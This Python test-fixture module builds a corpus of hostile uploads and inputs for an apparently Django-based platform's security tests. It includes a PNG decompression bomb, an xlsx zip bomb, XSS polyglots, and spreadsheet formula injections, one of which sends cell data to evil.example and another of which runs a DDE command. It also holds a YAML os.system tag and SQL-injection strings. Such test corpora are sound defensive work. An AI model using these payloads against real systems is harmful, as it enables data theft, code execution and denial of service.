"""The bad-input corpus: hostile files and texts built in code (nothing large on disk), each with
a readable id, for tests/security/test_bad_input.py.

YAML bombs, deep nesting, tags and most hostile workbooks are already covered, through the
admin too, by tests/certification/checklists/test_hostile_files.py; its generators are reused
here and only what it lacks is added (formulas, a CSV renamed .xlsx, an empty workbook, the
messages in Vietnamese)."""

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass
from functools import cache

from PIL import Image

from tests.certification.checklists.test_hostile_files import (
    CHECKLIST_BOMB,
    DEEP_LIST,
    rezipped,
    valid_workbook,
)

# --- images ---------------------------------------------------------------------------------

SCRIPT = b"<script>alert(1)</script>"


def _encoded(image: Image.Image, image_format: str, **options) -> bytes:
    out = io.BytesIO()
    image.save(out, image_format, **options)
    return out.getvalue()


def _noise(size=(64, 48)) -> Image.Image:
    return Image.frombytes("RGB", size, bytes((i * 37) % 251 for i in range(size[0] * size[1] * 3)))


def jpeg(size=(64, 48), **options) -> bytes:
    return _encoded(_noise(size), "JPEG", **options)


def png(size=(64, 48)) -> bytes:
    return _encoded(_noise(size), "PNG")


def truncated(data: bytes) -> bytes:
    return data[: len(data) // 2]


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return (struct.pack(">I", len(body)) + kind + body
            + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF))


@cache
def png_bomb(side: int = 30_000) -> bytes:
    """A real, complete 1-bit PNG of side x side pixels (900 megapixels for 30000) whose rows
    are all zeros: about 110 KB on the wire, gigabytes once decoded."""
    row = b"\x00" * (1 + (side + 7) // 8)  # filter byte + packed bits
    squeeze = zlib.compressobj(9)
    idat = b"".join(squeeze.compress(row) for _ in range(side)) + squeeze.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", idat)
            + _png_chunk(b"IEND", b""))


def over_limit(limit: int) -> bytes:
    """One byte over ``limit``: the start of a JPEG, then padding; refused by its size alone."""
    head = jpeg((8, 8))
    return head + b"\x00" * (limit + 1 - len(head))


def svg_with_script() -> bytes:
    return (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" '
            b'height="10"><script>alert(1)</script><rect width="10" height="10"/></svg>')


def html_page() -> bytes:
    return b"<!DOCTYPE html><html><body><h1>Hi</h1>" + SCRIPT + b"</body></html>"


def gif_js_polyglot() -> bytes:
    """Read as a GIF by an image viewer and as JavaScript by a browser: the GIF's width bytes
    open a comment that the script closes."""
    return (b"GIF89a/*\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,"
            b"\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;*/=alert(1);//")


def jpeg_html_polyglot() -> bytes:
    """A valid JPEG whose comment segment holds an HTML page with a script."""
    comment = b"<html><body>" + SCRIPT + b"</body></html>"
    return _encoded(_noise(), "JPEG", comment=comment)


def pdf_document() -> bytes:
    return (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]"
            b"/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")


GPS_LATITUDE = (21.0, 11.0, 30.0)  # Bắc Ninh, to the second


def jpeg_with_gps() -> bytes:
    """A phone photo with the farm's position, the camera and an XMP packet."""
    image = _noise()
    exif = image.getexif()
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x0110] = "Model X"  # Model
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2] = "N", GPS_LATITUDE
    gps[3], gps[4] = "E", (106.0, 4.0, 12.0)
    return _encoded(image, "JPEG", exif=exif.tobytes(),
                    xmp=b'<x:xmpmeta xmlns:x="adobe:ns:meta/">farm</x:xmpmeta>')


def cmyk_jpeg() -> bytes:
    return _encoded(_noise().convert("CMYK"), "JPEG")


def png_16_bit() -> bytes:
    image = Image.new("I;16", (48, 32))
    image.putdata([i * 1000 % 65536 for i in range(48 * 32)])
    return _encoded(image, "PNG")


def animated_gif() -> bytes:
    frames = [Image.new("P", (16, 16), colour) for colour in (1, 2, 3)]
    return _encoded(frames[0], "GIF", save_all=True, append_images=frames[1:], duration=100,
                    loop=0)


@dataclass(frozen=True)
class BadImage:
    """One hostile (or merely unusual) picture. ``build`` takes the entry point's size limit,
    so the oversized case is one byte over the limit of the place it is sent to."""

    id: str
    name: str
    content_type: str
    build: object  # Callable[[int], bytes]

    def content(self, limit: int) -> bytes:
        return self.build(limit)


IMAGES = [
    BadImage("truncated-jpeg", "anh-cat.jpg", "image/jpeg", lambda limit: truncated(jpeg())),
    BadImage("truncated-png", "anh-cat.png", "image/png", lambda limit: truncated(png())),
    BadImage("zero-bytes", "rong.jpg", "image/jpeg", lambda limit: b""),
    BadImage("png-bomb-30000x30000", "bom.png", "image/png", lambda limit: png_bomb()),
    BadImage("over-the-size-limit", "qua-lon.jpg", "image/jpeg", over_limit),
    BadImage("svg-with-script", "logo.svg", "image/svg+xml", lambda limit: svg_with_script()),
    BadImage("html-renamed-jpg", "trang.jpg", "image/jpeg", lambda limit: html_page()),
    BadImage("gif-js-polyglot", "gif-js.gif", "image/gif", lambda limit: gif_js_polyglot()),
    BadImage("jpeg-html-polyglot", "jpeg-html.jpg", "image/jpeg",
             lambda limit: jpeg_html_polyglot()),
    BadImage("pdf-renamed-png", "giay.png", "image/png", lambda limit: pdf_document()),
    BadImage("jpeg-with-gps-exif", "vuon.jpg", "image/jpeg", lambda limit: jpeg_with_gps()),
    BadImage("cmyk-jpeg", "in-an.jpg", "image/jpeg", lambda limit: cmyk_jpeg()),
    BadImage("png-16-bit", "xam-16.png", "image/png", lambda limit: png_16_bit()),
    BadImage("animated-gif", "dong.gif", "image/gif", lambda limit: animated_gif()),
]
IMAGE_IDS = [image.id for image in IMAGES]


# --- spreadsheets and YAML for the checklist import -----------------------------------------


def xlsx_zip_bomb() -> bytes:
    """A sheet of 101 MB of one letter, deflated to about 100 KB."""
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive, \
            archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
        block = b"A" * 1024 * 1024
        for _ in range(101):
            member.write(block)
    return output.getvalue()


def xlsx_with_formulas() -> bytes:
    """The platform's own checklist workbook with a point's text turned into formulas that
    run a command and call out to a web address."""
    def with_formulas(xml: bytes) -> bytes:
        return xml.replace(b"</sheetData>", (
            b'<row r="90"><c r="A90"><f>HYPERLINK("http://evil.example/?"&amp;B2,"x")</f></c>'
            b'<c r="B90"><f>cmd|\' /C calc\'!A0</f></c></row></sheetData>'))
    return rezipped(valid_workbook(), {"xl/worksheets/sheet4.xml": with_formulas})


def csv_renamed_xlsx() -> bytes:
    return b"code,text\nVG.1.1,=HYPERLINK(\"http://evil.example\")\n"


def empty_workbook() -> bytes:
    from openpyxl import Workbook

    out = io.BytesIO()
    Workbook().save(out)
    return out.getvalue()


@dataclass(frozen=True)
class BadChecklist:
    id: str
    name: str
    build: object  # Callable[[], bytes]


CHECKLISTS = [
    BadChecklist("xlsx-zip-bomb", "bom.xlsx", xlsx_zip_bomb),
    BadChecklist("xlsx-with-formulas", "cong-thuc.xlsx", xlsx_with_formulas),
    BadChecklist("csv-renamed-xlsx", "bang.xlsx", csv_renamed_xlsx),
    BadChecklist("empty-workbook", "trong.xlsx", empty_workbook),
    BadChecklist("yaml-python-tag", "the.yaml",
                 lambda: b"format: 1\nversion:\n  label: !!python/object/apply:os.system ['id']\n"),
    BadChecklist("yaml-billion-laughs", "bom.yaml", lambda: CHECKLIST_BOMB.encode()),
    BadChecklist("yaml-deep-nesting", "sau.yaml", lambda: DEEP_LIST.encode()),
    BadChecklist("yaml-nul-byte", "nul.yaml", lambda: b"format: 1\nversion: {label: \"a\x00b\"}\n"),
]
CHECKLIST_IDS = [case.id for case in CHECKLISTS]


# --- texts ------------------------------------------------------------------------------------


@dataclass(frozen=True)
class BadText:
    """A text a person might type (or paste). ``refused`` when no field may keep it; otherwise
    it is kept and must come back escaped wherever it is shown."""

    id: str
    value: str
    refused: bool = False


LONG = "Hợp tác xã " + "A" * 10_000
TEXTS = [
    BadText("formula-hyperlink", '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào")'),
    BadText("formula-dde", "+cmd|' /C calc'!A0"),
    BadText("script-tag", "<script>alert(1)</script>"),
    BadText("attribute-breakout", '"><img src=x onerror=alert(1)>'),
    BadText("template-variable", "{{ 7*7 }}"),
    BadText("template-tag", "{% debug %}"),
    BadText("rtl-override", "Nguyễn \u202egpj.exe"),
    BadText("zero-width-joiners", "Ng\u200duy\u200bễn \u2060An"),
    BadText("nul-byte", "Nguyễn\x00Văn An", refused=True),
    BadText("combining-diacritics", "Nguye\u0302\u0303n Thi\u0323 A\u0301nh"),
    BadText("precomposed-diacritics", "Nguyễn Thị Ánh"),
    BadText("emoji", "Vải thiều 🌾🍒 ngon"),
    BadText("ten-thousand-characters", LONG, refused=True),
]
TEXT_IDS = [text.id for text in TEXTS]
# A lone surrogate cannot be written in UTF-8: a browser (or an attacker) sends its would-be
# bytes, which the server must decode without failing.
LONE_SURROGATE_BYTES = b"%ED%A0%80"  # U+D800 as CESU-8, percent-encoded


def escaped(text: str) -> str:
    """``text`` as Django's autoescape writes it."""
    from django.utils.html import escape

    return str(escape(text))


# --- query strings ----------------------------------------------------------------------------

JUNK_PARAMS = [
    ("wrong-type", {"province": "abc", "date_from": "hôm qua", "course": "[]"}),
    ("huge-number", {"province": "9" * 40, "page": "9" * 40, "date_to": "99999-01-01"}),
    ("unknown-id", {"province": "987654", "category": "khong-co", "course": "no-such"}),
    ("sql-ish", {"province": "1 OR 1=1", "q": "' OR '1'='1' --", "sort": "name; DROP TABLE"}),
    ("nul-byte", {"q": "a\x00b", "province": "\x00", "sort": "\x00"}),
    ("list-instead-of-one", {"province": ["1", "2"], "q": ["a", "b"]}),
    ("negative-and-dates-reversed", {"page": "-1", "date_from": "2025-12-31",
                                     "date_to": "2025-01-01"}),
]
JUNK_PARAM_IDS = [case_id for case_id, _params in JUNK_PARAMS]


def case_count() -> int:
    return len(IMAGES) + len(CHECKLISTS) + len(TEXTS) + len(JUNK_PARAMS) + 1
